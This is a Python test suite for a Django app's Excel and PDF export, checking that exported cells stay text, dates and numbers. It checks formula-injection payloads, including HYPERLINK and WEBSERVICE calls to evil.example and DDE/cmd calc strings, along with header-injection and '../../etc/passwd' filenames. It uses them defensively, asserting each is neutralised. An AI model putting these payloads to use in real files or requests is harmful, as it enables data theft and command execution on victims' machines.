"""Excel files: text stays text, dates stay dates."""

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import django_tables2 as tables
import pytest
from django.utils import timezone
from django.utils.html import format_html
from openpyxl import load_workbook

from studio.exports.responses import pdf_response, xlsx_response
from studio.exports.xlsx import MAX_CELL_TEXT, safe_sheet_title, table_to_xlsx, write_xlsx
from studio.paper.columns import Column


def sheet_of(content):
    return load_workbook(io.BytesIO(content)).active


def written(rows, columns=None, **how):
    columns = columns or [f"Column {n}" for n in range(len(rows[0]))]
    return sheet_of(write_xlsx(title="Orders", columns=columns, rows=rows, **how))


def formulas():
    """Eighty texts that a spreadsheet might run."""
    starts = ["=", "+", "-", "@", "\t=", "\n=", " =", "\r="]
    calls = [
        "1+1",
        'HYPERLINK("http://evil.example/?"&A1,"Click")',
        "cmd|'/C calc'!A0",
        'WEBSERVICE("http://evil.example/")',
        'IMPORTXML("http://evil.example/","//a")',
        'DDE("cmd";"/C calc";"!A0")',
        "SUM(A1:A9)",
        "{1;2}",
        "A1",
        '"text"',
    ]
    return [start + call for start in starts for call in calls]


def test_no_text_becomes_a_formula_in_any_column():
    corpus = formulas()
    assert len(corpus) == 80
    content = write_xlsx(title="=1+1", columns=["=A1", "+B", "@C"], rows=[[text] * 3 for text in corpus])
    sheet = sheet_of(content)
    for row, text in zip(sheet.iter_rows(min_row=2), corpus, strict=True):
        for cell in row:
            assert cell.data_type == "s"
            assert cell.value == text.replace("\r", "\n")
    assert [cell.data_type for cell in sheet[1]] == ["s"] * 3
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<f " not in xml


def test_the_corpus_would_show_a_formula_written_the_plain_way():
    from openpyxl import Workbook

    book, out = Workbook(), io.BytesIO()
    for text in formulas():
        book.active.append([text])
    book.save(out)
    assert "f" in {row[0].data_type for row in sheet_of(out.getvalue()).iter_rows()}


def test_text_that_looks_like_a_formula_stays_text_when_it_is_edited_in_excel():
    cell = written([["=HYPERLINK(1)"], ["Maya"]])["A2"]
    assert cell.quotePrefix
    assert not written([["Maya"]])["A2"].quotePrefix


def test_dates_and_numbers_are_real():
    day, moment = date(2026, 3, 3), datetime.fromisoformat("2026-03-03 14:05")
    sheet = written([[day, moment, 5, Decimal("1234.50"), 2.5]])
    values = [cell.value for cell in sheet[2]]
    assert values == [datetime.fromisoformat("2026-03-03"), moment, 5, 1234.5, 2.5]
    assert [cell.data_type for cell in sheet[2]] == ["d", "d", "n", "n", "n"]
    assert sheet["A2"].number_format == "ddd d mmm yyyy"
    assert sheet["D2"].number_format == "#,##0.00"


def test_moments_are_written_as_the_studios_wall_clock():
    with timezone.override("America/New_York"):
        sheet = written([[datetime(2026, 3, 3, 12, 0, tzinfo=UTC)]])
    assert sheet["A2"].value == datetime.fromisoformat("2026-03-03 07:00")


def test_control_characters_and_half_pairs_are_left_out():
    assert written([["Anna\x00 \x1bMay\ud800er\ufffe"]])["A2"].value == "Anna Mayer"


def test_long_text_is_cut_where_excel_would_refuse_the_file():
    sheet = written([["x" * 40_000, "😀" * 20_000]])
    assert len(sheet["A2"].value) == MAX_CELL_TEXT
    assert len(sheet["B2"].value.encode("utf-16-le")) <= 2 * MAX_CELL_TEXT
    assert set(sheet["B2"].value) == {"😀"}


def test_what_excel_cannot_hold_as_a_number_or_date_is_written_out():
    sheet = written([[10**20, date(1850, 1, 1), Decimal("NaN"), float("inf"), True, None]])
    assert [cell.value for cell in sheet[2]] == [str(10**20), "1850-01-01", None, None, "Yes", None]


def test_the_header_is_frozen_bold_and_filtered():
    sheet = written([["Maya", 1], ["Omar", 2]], columns=["Client", Column("Images", "int")])
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.auto_filter.ref == "A1:B3"


def test_a_sheet_prints_on_the_studios_paper_as_wide_as_it_is_under_its_header():
    for paper, size in (("letter", "1"), ("a4", "9")):
        narrow = written([["Maya", "At lab"]], paper=paper)
        wide = written([["Maya Lindqvist-Andersson"] * 8], paper=paper)
        assert (narrow.page_setup.orientation, wide.page_setup.orientation) == ("portrait", "landscape")
        for sheet in (narrow, wide):
            assert str(sheet.page_setup.paperSize) == size
            assert sheet.sheet_properties.pageSetUpPr.fitToPage
            assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (
                None,
                0,
            )  # one, and any number
            assert sheet.print_title_rows == "$1:$1"


def test_columns_are_as_wide_as_their_content_within_reason():
    sheet = written([["Ng", "Wolfgang Amadeus Mozart", "x" * 500, date(2026, 3, 3)]])
    widths = [sheet.column_dimensions[letter].width for letter in "ABCD"]
    assert widths[0] < widths[1] < widths[2] == 60
    assert widths[3] >= 16


def test_a_list_without_rows_is_a_good_file():
    sheet = sheet_of(write_xlsx(title="Orders", columns=["Client"], rows=[]))
    assert [cell.value for cell in sheet[1]] == ["Client"]
    assert sheet.max_row == 1


@pytest.mark.parametrize(
    ("title", "answer"),
    [
        ("Orders", "Orders"),
        ("Late [now]: a/b\\c*?", "Late now a b c"),
        ("x" * 40, "x" * 31),
        ("'quoted'", "quoted"),
        ("History", "Sheet"),
        ("///", "Sheet"),
        ("\x00", "Sheet"),
        ("😀" * 20, "😀" * 15),
    ],
)
def test_a_sheet_gets_a_title_that_excel_takes(title, answer):
    assert safe_sheet_title(title) == answer
    assert written([["a"]], sheet_title=title).title == answer


def test_many_rows_are_streamed():
    sheet = written([[n, "Maya"] for n in range(10_000)])
    assert sheet.max_row == 10_001
    assert sheet["A10001"].value == 9999


# From a table.


class ClientTable(tables.Table):
    name = tables.Column()
    due = tables.DateColumn(verbose_name="Status Due Date")
    seen = tables.DateTimeColumn()
    open = tables.BooleanColumn()
    images = tables.Column()
    badge = tables.Column(empty_values=())
    shown = tables.TemplateColumn("<b>{{ record.name }}</b>")
    secret = tables.Column(visible=False)
    select = tables.Column(empty_values=(), exclude_from_export=True)

    def render_name(self, value):
        return format_html("<b>{}</b>", value)

    def render_badge(self):
        return "<span>wrong</span>"

    def value_badge(self, record):
        return f"{record['name']}!"


def client_table():
    record = {
        "name": "Anna <3 & Bob <b>",
        "due": date(2026, 3, 3),
        "seen": datetime(2026, 3, 3, 12, tzinfo=UTC),
        "open": True,
        "images": 12,
        "secret": "hidden",
    }
    return ClientTable([record, {**record, "due": None, "images": None}] * 30)


def test_a_table_is_exported_as_shown_with_all_its_rows():
    table = client_table()
    table.paginate(per_page=5)
    with timezone.override("America/New_York"):
        sheet = sheet_of(table_to_xlsx(table, title="Clients"))
    assert sheet.title == "Clients"
    assert sheet.max_row == 61
    assert [cell.value for cell in sheet[1]] == [
        "Name",
        "Status Due Date",
        "Seen",
        "Open",
        "Images",
        "Badge",
        "Shown",
    ]
    assert [cell.value for cell in sheet[2]] == [
        "Anna <3 & Bob <b>",
        datetime.fromisoformat("2026-03-03"),
        datetime.fromisoformat("2026-03-03 07:00"),
        "Yes",
        12,
        "Anna <3 & Bob <b>!",
        "Anna <3 & Bob <b>",
    ]
    assert [sheet["B3"].value, sheet["E3"].value] == [None, None]


# As an answer.


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ("orders", 'attachment; filename="orders.xlsx"'),
        ("orders.xlsx", 'attachment; filename="orders.xlsx"'),
        ('a"b\r\nSet-Cookie: x', 'attachment; filename="a-b Set-Cookie- x.xlsx"'),
        ("../../etc/passwd", 'attachment; filename="etc-passwd.xlsx"'),
        ("Müller", "attachment; filename*=utf-8''M%C3%BCller.xlsx"),
        ("", 'attachment; filename="export.xlsx"'),
    ],
)
def test_a_file_is_offered_under_a_safe_name(filename, header):
    assert xlsx_response(b"x", filename)["Content-Disposition"] == header


def test_a_file_is_kept_by_nobody_and_taken_for_what_it_is():
    for response in (xlsx_response(b"x", "a"), pdf_response(b"x", "a")):
        assert response["Cache-Control"] == "private, no-store"
        assert response["X-Content-Type-Options"] == "nosniff"
    assert xlsx_response(b"x", "a")["Content-Type"].endswith("spreadsheetml.sheet")
    assert pdf_response(b"x", "a")["Content-Type"] == "application/pdf"


def test_a_pdf_is_shown_in_the_browser_or_saved():
    assert pdf_response(b"x", "a")["Content-Disposition"] == 'inline; filename="a.pdf"'
    assert pdf_response(b"x", "a", inline=False)["Content-Disposition"] == 'attachment; filename="a.pdf"'
